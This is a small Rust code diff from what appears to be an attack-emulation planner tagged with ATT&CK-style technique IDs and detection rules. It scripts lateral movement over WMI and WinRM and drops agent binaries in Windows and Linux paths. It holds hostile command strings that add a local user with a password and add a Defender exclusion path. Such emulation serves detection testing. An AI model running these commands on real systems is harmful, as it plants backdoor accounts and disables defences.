@@ -191,7 +191,7 @@ fn broker(p: &mut Plan<'_>, shared: &Server, exit: &str, public: &str) {
     );
 
     p.phase(230, 2);
-    let shell = moves::over_wmi(p, 0, files, &admin.windows, "quser");
+    let shell = moves::over_wmi(p, 0, (web, files), &admin, "quser");
     p.step(120, "it calls home from the file server", &["T1071.001"], &[rules::WRITABLE_OUT]);
     let agent = p.run(files, &shell, "C:\\Windows\\Tasks\\n.exe", "n.exe");
     reaches(p, files, &agent, &own);
@@ -204,7 +204,7 @@ fn broker(p: &mut Plan<'_>, shared: &Server, exit: &str, public: &str) {
     let agent = p.run(linux, &sh, "/tmp/.n", "/tmp/.n");
     reaches(p, linux, &agent, &own);
     p.phase(560, 3);
-    let cmd = moves::over_winrm(p, 0, app, &admin.windows, "net user svc-print P@ssw0rd! /add");
+    let cmd = moves::over_winrm(p, 0, (files, app), &admin, "net user svc-print P@ssw0rd! /add");
     if p.perhaps(4) {
         p.step(100, "antivirus weakened", &["T1685"], &[rules::DEFENDER_OFF]);
         p.run(app, &cmd, POWERSHELL, "powershell Add-MpPreference -ExclusionPath C:\\ProgramData");
